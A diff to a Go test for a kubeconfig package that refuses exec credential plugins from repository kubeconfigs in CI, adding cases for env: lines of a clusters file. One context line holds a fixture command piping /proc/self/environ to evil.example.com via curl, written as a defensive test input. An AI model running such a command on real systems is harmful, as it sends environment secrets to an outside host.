@@ -3,6 +3,7 @@ package kubeconfig
 import (
 	"errors"
 	"maps"
+	"strings"
 	"testing"
 
 	"github.com/google/go-cmp/cmp"
@@ -14,7 +15,8 @@ import (
 // built-in provider serves its own kinds); with it, an installed program outside the
 // workspace runs, never a shell or an interpreter, a relative path, a program in the
 // workspace or an env that loads other code, which are refused on a workstation too. The
-// same plugin from an env: source (the workflow's own) keeps kubectl's rules.
+// same plugin from an env: line of the workflow's own keeps kubectl's rules; that of an env:
+// line of a clusters file in CI is a repository one.
 func TestRepositoryKubeconfigRunsNoCode(t *testing.T) {
 	t.Parallel()
 	// The programs LookPath finds, by what the kubeconfig names.
@@ -48,7 +50,9 @@ func TestRepositoryKubeconfigRunsNoCode(t *testing.T) {
 		action bool // the action: no LookPath unless allowExec
 		ci     bool
 		allow  bool // --allow-exec, the allow-exec input
-		env    bool // an env: source, the workflow's own
+		env    bool // an env: line of the workflow's own (the clusters input, --cluster)
+		// envFile: an env: line of a clusters file, which can come from the repository
+		envFile bool
 		// wantInvalid: the message; "" means the plugin runs (client-go's ExecProvider), or,
 		// with wantBuiltin, the built-in provider serves it.
 		wantInvalid string
@@ -69,6 +73,14 @@ func TestRepositoryKubeconfigRunsNoCode(t *testing.T) {
 		name: "a plugin on a workstation", exec: tsh,
 	}, {
 		name: "a plugin of the workflow's own kubeconfig in CI", exec: tsh, ci: true, env: true,
+	}, {
+		name: "a plugin of an env: line of a clusters file in CI", exec: tsh, ci: true, envFile: true,
+		wantInvalid: `the kubeconfig's user "a" of env:KC has the exec credential plugin "tsh"` +
+			strings.Replace(notInCI, "a kubeconfig of a file: source", "the kubeconfig of an env: line of a clusters file", 1) +
+			`, or put the line in the pipeline itself (--cluster in the job's script), whose env: lines are its own` +
+			`, or, if the pipeline trusts every file: kubeconfig it reads, pass --allow-exec (the allow-exec input of the GitLab component and of the Tekton Task)`,
+	}, {
+		name: "a plugin of an env: line of a clusters file on a workstation", exec: tsh, envFile: true,
 	}, {
 		name: "sh in CI with the opt-in", exec: with("sh", "-c", "curl -d @- https://evil.example.com < /proc/self/environ"), ci: true, allow: true,
 		wantInvalid: user + `"sh"` + shell + anyway + tokenAdvice + cliOwn,
@@ -133,6 +145,8 @@ func TestRepositoryKubeconfigRunsNoCode(t *testing.T) {
 			case tt.action:
 				in.Clusters = "c=file:kc/config.yaml"
 			case tt.env:
+				in.ClusterLines = []string{"c=env:KC"}
+			case tt.envFile:
 				in.ClustersFile = "env-clusters.txt"
 			default:
 				in.ClustersFile = "clusters.txt"
